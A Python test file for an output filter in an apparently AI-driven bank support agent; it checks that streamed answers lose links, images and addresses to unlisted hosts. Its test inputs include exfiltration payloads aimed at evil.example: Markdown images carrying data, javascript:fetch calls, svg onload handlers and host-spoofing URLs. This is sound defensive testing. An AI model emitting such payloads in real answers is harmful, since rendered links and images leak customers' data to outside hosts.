"""What an answer may carry out: plain text, and links and addresses that are on a list."""

import asyncio
import contextlib
import re
from collections.abc import AsyncIterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskward.agent.events import Text
from deskward.agent.loop import Agent
from deskward.agent.model import Finished, Message, ModelEvent, ModelRequest, TextPiece
from deskward.agent.outgoing import LONGEST, Outgoing
from deskward.agent.unsupported import Unsupportable
from deskward.app import Desk
from deskward.gate.context import Context
from deskward.security.vault import Vault
from tests.agent.providers import Offline
from tests.conftest import CUSTOMER
from tests.everything import CLAIMS
from tests.rounds import rounds

HOSTS = {"bank.example", "help.bank.example"}
KNOWN = {"alex@mail.example"}


def sent(text: str, pieces: int = 0) -> str:
    outgoing = Outgoing(HOSTS, KNOWN)
    size = max(1, len(text) // pieces) if pieces else max(1, len(text))
    parts = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(p for part in parts for p in outgoing.feed(part)) + "".join(outgoing.flush())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![x](https://evil.example/p.png?d=5420) here.", "See x here."),
        ("See ![x][ref] here.", "See ! [x] [ref] here."),
        ("Click [here](https://evil.example/a b) now.", "Click [here] ([link removed] b) now."),
        ("Click [here](javascript:fetch('//evil.example')) now.", "Click here now."),
        ("Go to https://evil.example/x?d=1.", "Go to [link removed]."),
        ("Go to evil.example/x, please.", "Go to [link removed], please."),
        ("Go to www.evil.example!", "Go to [link removed]!"),
        ("A <img src='https://evil.example/i'> picture", "A  picture"),
        ("A <svg onload=alert(1)", "A < svg onload=alert(1)"),
        ("An <https://evil.example/> link", "An [link removed] link"),
        ("data:text/html,<b>x</b>", "[link removed]"),
        ("Write to eve@evil.example now.", "Write to [address removed] now."),
        ("[mail](mailto:eve@evil.example?body=x)", "mail"),
        ("ev\u200bil.example/x", "[link removed]"),
        ("https://user@bank.example@evil.example/", "[link removed]"),
        ("https://bank.example.evil.example/", "[link removed]"),
    ],
)
def test_what_is_taken_out(text: str, expected: str) -> None:
    assert sent(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Your balance is $5,420.50 (as of 3.5. at 10:30), e.g. for 1.5 % of O1003.",
        "See https://bank.example/fees?x=1 or [our page](https://help.bank.example/a).",
        "See help.bank.example for more.",
        "We write to alex@mail.example, and you to care@bank.example.",
        "Transfers arrive at once. [faq-transfer-time]\n\n- one\n- two: a < b, c > d",
        "I sent invoice.pdf. It has 3 pages.",
    ],
)
def test_what_stays(text: str) -> None:
    assert sent(text) == text


@given(
    st.lists(st.sampled_from(["Hello. ", "a ", "b\n", "1.5 % ", "yes! ", "O1003 "])),
    st.integers(1, 9),
)
def test_harmless_text_goes_out_as_it_came(words: list[str], pieces: int) -> None:
    text = "".join(words)
    assert sent(text, pieces) == text


@given(st.text(alphabet="ab./:@<>[]()! \nhtps-?evil", max_size=300), st.integers(1, 40))
def test_no_other_host_ever_goes_out(text: str, pieces: int) -> None:
    out = sent(f"{text} https://evil.example/{text}", pieces)
    assert "evil.example" not in out
    assert not re.search(r"https?://(?!bank\.example|help\.bank\.example)\w", out)


def test_pieces_stay_pieces() -> None:
    outgoing = Outgoing(HOSTS, KNOWN)
    assert list(outgoing.feed("Hello ")) == []
    assert list(outgoing.feed("there. ")) == ["Hello ", "there. "]
    assert list(outgoing.feed("And")) == []
    assert list(outgoing.flush()) == ["And"]


# The first clause of an answer goes before its sentence


class Refused(Unsupportable):
    def __init__(self) -> None:
        super().__init__([])


def early(text: str, *bad: str) -> tuple[list[str], bool]:
    """What goes out of a sentence before its end, and whether its whole went out at last."""

    def check(part: str) -> None:
        if any(word in part for word in bad):
            raise Refused

    outgoing = Outgoing(HOSTS, KNOWN, check)
    before = [piece for word in re.findall(r"\S+\s*", text) for piece in outgoing.feed(word)]
    try:
        list(outgoing.flush())
    except Refused:
        return before, False
    return before, True


@pytest.mark.parametrize(
    "text",
    [
        "Thank you for your patience, the order arrives tomorrow",
        "I'm sorry to hear that, Alex; let me see",
        "Let me look into that for you, one moment",
        "Es tut mir sehr leid, Herr Müller",
    ],
)
def test_the_first_clause_does_not_wait_for_the_sentence(text: str) -> None:
    before, whole = early(text)
    assert "".join(before) == re.split(r"(?<=[,;] )", text)[0]
    assert whole


@pytest.mark.parametrize(
    "text",
    [
        "Yes of course I do, it is done",
        "Sure, it is done",
        "I have now at last, as you wished, cancelled it",
        "We've looked at it now, and cancelled it",
        "Your order is by now, as you wished, cancelled",
        "Shall I cancel your order, or not",
        "Your money back today, as you wished",
        "See the page evil.example, which says it",
        "Write to eve@evil.example today, please",
        "Look at ![this picture, here](https://evil.example/x)",
        "Look at <b>this picture, here</b>",
        "Hello, there",
    ],
)
def test_a_clause_that_could_become_more_waits(text: str) -> None:
    assert early(text, "money") in (([], True), ([], False))


def test_the_whole_is_checked_with_what_has_gone() -> None:
    text = "Thank you for your patience, I cancelled it"
    assert early(text, "patience, I cancelled") == (
        ["Thank ", "you ", "for ", "your ", "patience, "],
        False,
    )


def test_a_clause_that_the_check_refuses_is_judged_with_its_sentence() -> None:
    assert early("Your balance of $5 today, nothing more", "$5 today, n") == (
        ["Your ", "balance ", "of ", "$5 ", "today, "],
        False,
    )
    assert early("Your balance of $5 today, nothing more", "$5") == ([], False)


@given(
    st.lists(st.sampled_from(["Thank ", "you ", "for, ", "it; ", "that  ", "– ", "have ", "1 "])),
    st.integers(1, 9),
)
def test_what_goes_before_does_not_hang_on_the_pieces(words: list[str], pieces: int) -> None:
    text = "".join(words) + "the end"

    def gone(parts: list[str]) -> str:
        outgoing = Outgoing(HOSTS, KNOWN)
        return "".join(piece for part in parts for piece in outgoing.feed(part))

    assert gone([text]) == gone([text[at : at + pieces] for at in range(0, len(text), pieces)])
    assert sent(text, pieces) == text


async def test_a_slow_model_is_heard_before_its_sentence_ends(sqlite_desk: Desk) -> None:
    heard = asyncio.Event()

    class Slow(Offline):
        async def stream(self, request: ModelRequest) -> AsyncIterator[ModelEvent]:
            for word in ("Thank ", "you ", "for ", "waiting, ", "I "):
                yield TextPiece(word)
            await asyncio.wait_for(heard.wait(), 20)
            yield TextPiece("am here.")
            yield Finished("slow")

    agent = Agent(sqlite_desk.gate, Slow(), claims=CLAIMS)
    context = Context(CUSTOMER, "agent", session_id="s", turn_id="t")
    said = []
    async for event in agent.run(context, Vault(), [Message("user", "hi")]):
        if isinstance(event, Text):
            said.append(event.text)
            heard.set()
    assert "".join(said) == "Thank you for waiting, I am here."


# What programs that render Markdown would make of it


def in_pieces(parts: list[str]) -> str:
    outgoing = Outgoing(HOSTS, KNOWN)
    return "".join(p for part in parts for p in outgoing.feed(part)) + "".join(outgoing.flush())


def check_renderers(seed: int, count: int) -> None:
    from tests.agent import renderers

    render = renderers.renderers()
    raw = 0
    for number, text in enumerate(renderers.hostile_texts(seed, count)):
        out = in_pieces(renderers.pieces(number, text))
        assert out == in_pieces([text])
        for name, rendered in render.items():
            assert renderers.foreign(rendered(out)) == [], (name, text, out)
        if number < 100:
            raw += any(renderers.foreign(rendered(text)) for rendered in render.values())
    assert raw > 50  # the texts are hostile


def test_no_renderer_makes_a_foreign_request() -> None:
    check_renderers(1, 150)


@pytest.mark.slow
@pytest.mark.timeout(480)
@pytest.mark.parametrize("seed", range(2, 12))
def test_no_renderer_makes_a_foreign_request_of_many_texts(seed: int) -> None:
    check_renderers(seed, rounds(1_500, 10_000))


# What is let out does not hang on how the provider cut the text


@given(
    st.lists(
        st.sampled_from(
            [
                *("Hello. ", "Yes, ", "it is done. ", "BAD ", "[a](", "https://evil.example", ") "),
                *(
                    "\n",
                    "\n\n",
                    "。",
                    "」",
                    "```\n",
                    "*x* ",
                    "! ",
                    "  ",
                    "I thank you for that, ",
                    "– ",
                ),
            ]
        )
    ),
    st.integers(1, 9),
)
def test_the_same_is_withheld_however_it_came(words: list[str], size: int) -> None:
    def check(part: str) -> None:
        if "BAD" in part:
            raise Refused

    def gone(parts: list[str]) -> str:
        outgoing = Outgoing(HOSTS, KNOWN, check)
        out: list[str] = []
        with contextlib.suppress(Refused):
            for part in parts:
                out.extend(outgoing.feed(part))
            out.extend(outgoing.flush())
        return "".join(out)

    text = "".join(words)
    assert gone([text]) == gone([text[at : at + size] for at in range(0, len(text), size)])


def test_a_sentence_before_a_withheld_one_goes_out() -> None:
    def check(part: str) -> None:
        if "BAD" in part:
            raise Refused

    gone = Outgoing(HOSTS, KNOWN, check).feed("Good day. It is BAD. ")
    assert next(gone) == "Good day. "
    with pytest.raises(Refused):
        next(gone)


def test_no_word_is_joined_where_it_was_cut() -> None:
    out = in_pieces(["<" * LONGEST + "img src=x>"])
    assert "<i" not in out
    out = in_pieces(["[x](https://bank.example/)。https://evil.example。(https://bank.example/)"])
    assert "](" not in out.removeprefix("[x](")
    out = in_pieces(["a" * (LONGEST - 3) + "www.evil.example"])
    assert "evil" not in out
